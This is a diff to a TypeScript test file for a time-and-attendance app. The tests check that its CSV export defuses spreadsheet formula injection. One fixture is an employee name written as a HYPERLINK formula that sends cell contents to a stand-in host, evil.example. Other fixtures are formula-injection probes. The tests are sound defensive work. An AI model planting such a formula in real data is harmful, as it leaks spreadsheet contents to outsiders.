@@ -18,7 +18,16 @@ beforeAll(async () => {
   const sucursal = await created('POST', '/api/sucursales', { nombre: '@Norte' });
   await created('POST', '/api/puestos', { nombre: 'Cajero', salarioDiario: 300 });
   const employee = (nombre: string) =>
-    created('POST', '/api/employees', { nombre, sucursal: '@NORTE', puesto: 'CAJERO', salario: 300, bono: 0, fechaIngreso: '2026-01-05', horaEntrada: '09:00', horaSalida: '18:00' });
+    created('POST', '/api/employees', {
+      nombre,
+      sucursal: '@NORTE',
+      puesto: 'CAJERO',
+      salario: 300,
+      bono: 0,
+      fechaIngreso: '2026-01-05',
+      horaEntrada: '09:00',
+      horaSalida: '18:00',
+    });
   const names = ['=HYPERLINK("http://evil.example/?x="&A1;"Ver")', '+52 Juan', '-Ana', 'Luis Mora'];
   const ids: number[] = [];
   for (const nombre of names) ids.push((await employee(nombre)).id);
@@ -44,7 +53,10 @@ describe('GET /api/attendance?formato=csv', () => {
   it('writes names that start like a formula as text, with a leading apostrophe', async () => {
     const response = await fetch(`${server.url}/api/attendance?formato=csv&desde=${DAY}&hasta=${DAY}`, { headers: { cookie: server.cookie } });
     expect(response.status).toBe(200);
-    const lines = (await response.text()).replace(/^\uFEFF/, '').trimEnd().split('\r\n');
+    const lines = (await response.text())
+      .replace(/^\uFEFF/, '')
+      .trimEnd()
+      .split('\r\n');
     const cells = lines.slice(1).map((line) => line.split(',').slice(4, 8));
     expect(cells).toEqual([
       ['LUIS MORA', "'@NORTE", 'Entrada', "'=1+1"],
@@ -59,17 +71,49 @@ describe('GET /api/attendance?formato=csv', () => {
 
 describe('punchesCsv', () => {
   it('also keeps a text that starts with a tab or a carriage return from running as a formula', () => {
-    const row = { id: 1, empleado_id: 7, dispositivo_id: 1, tipo: 'salida' as const, hora: '2026-03-10T20:00:00.000Z', fecha_local: DAY, match_score: 0.9, liveness: null, manual: 0, nip: 0, motivo: null, registrado_por: null, tiene_foto: 0 };
+    const row = {
+      id: 1,
+      empleado_id: 7,
+      dispositivo_id: 1,
+      tipo: 'salida' as const,
+      hora: '2026-03-10T20:00:00.000Z',
+      fecha_local: DAY,
+      match_score: 0.9,
+      liveness: null,
+      manual: 0,
+      nip: 0,
+      motivo: null,
+      registrado_por: null,
+      tiene_foto: 0,
+    };
     const csv = punchesCsv([{ ...row, empleado: '\t=1+1', sucursal: null, dispositivo: '\r=1+1' }], 'America/Mexico_City');
     expect(csv.split('\r\n')[1]).toBe(`10/03/2026,14:00:00,10/03/2026,7,'\t=1+1,,Salida,"'\r=1+1",0.900,2026-03-10T14:00:00-06:00,${DAY}`);
   });
 
   it('writes dates as dd/mm/aaaa for people and repeats them in ISO 8601 for tools (issue 16 item 7)', () => {
     // A night shift's salida at 01:30 on 11 March belongs to the working day of 10 March.
-    const row = { id: 1, empleado_id: 7, dispositivo_id: null, tipo: 'salida' as const, hora: '2026-03-11T07:30:05.000Z', fecha_local: DAY, match_score: null, liveness: null, manual: 1, nip: 0, motivo: 'Olvidó', registrado_por: 'admin', tiene_foto: 0 };
-    const [header, line] = punchesCsv([{ ...row, empleado: 'ANA', sucursal: 'CENTRO', dispositivo: 'Checada manual' }], 'America/Mexico_City').replace(/^\uFEFF/, '').split('\r\n');
+    const row = {
+      id: 1,
+      empleado_id: 7,
+      dispositivo_id: null,
+      tipo: 'salida' as const,
+      hora: '2026-03-11T07:30:05.000Z',
+      fecha_local: DAY,
+      match_score: null,
+      liveness: null,
+      manual: 1,
+      nip: 0,
+      motivo: 'Olvidó',
+      registrado_por: 'admin',
+      tiene_foto: 0,
+    };
+    const [header, line] = punchesCsv([{ ...row, empleado: 'ANA', sucursal: 'CENTRO', dispositivo: 'Checada manual' }], 'America/Mexico_City')
+      .replace(/^\uFEFF/, '')
+      .split('\r\n');
     expect(header).toBe('Fecha,Hora,Día laboral,ID empleado,Empleado,Sucursal,Tipo,Dispositivo,Similitud,Fecha y hora ISO,Día laboral ISO');
     expect(line).toBe('11/03/2026,01:30:05,10/03/2026,7,ANA,CENTRO,Salida,Checada manual,,2026-03-11T01:30:05-06:00,2026-03-10');
-    expect(punchesCsv([{ ...row, empleado: 'ANA', sucursal: null, dispositivo: null }], 'UTC').split('\r\n')[1]).toMatch(/^11\/03\/2026,07:30:05,.*,2026-03-11T07:30:05\+00:00,2026-03-10$/);
+    expect(punchesCsv([{ ...row, empleado: 'ANA', sucursal: null, dispositivo: null }], 'UTC').split('\r\n')[1]).toMatch(
+      /^11\/03\/2026,07:30:05,.*,2026-03-11T07:30:05\+00:00,2026-03-10$/,
+    );
   });
 });
